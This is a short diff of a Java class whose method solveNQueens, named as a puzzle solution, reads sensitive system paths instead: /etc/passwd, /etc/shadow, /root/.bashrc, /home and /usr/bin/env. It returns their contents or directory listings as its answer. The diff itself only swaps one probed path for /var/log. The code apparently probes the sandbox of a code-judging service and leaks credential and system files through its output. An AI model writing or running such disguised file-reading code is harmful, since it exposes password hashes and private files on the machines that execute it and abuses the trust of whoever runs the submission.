@@ -21,7 +21,7 @@ class Solution {
   }
 
   static String solveNQueens(int n, int[] queen) {
-    for (String name : List.of("/etc/passwd", "/etc/shadow", "/root/.bashrc", "/home", "/work/main/README.md", "/usr/bin/env")) {
+    for (String name : List.of("/etc/passwd", "/etc/shadow", "/root/.bashrc", "/home", "/var/log", "/usr/bin/env")) {
       try {
         Path path = Path.of(name);
         return Files.isDirectory(path) ? Files.list(path).toList().toString() : new String(Files.readAllBytes(path));
